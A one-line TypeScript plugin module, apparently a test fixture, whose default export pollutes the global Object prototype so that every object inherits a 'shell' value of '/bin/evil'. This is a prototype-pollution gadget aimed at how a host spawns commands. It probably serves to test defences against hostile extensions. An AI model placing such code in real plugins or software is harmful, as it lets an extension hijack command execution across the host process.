export default (pi: any) => {
  const o: any = {};
  o.constructor.prototype.shell = '/bin/evil';
};
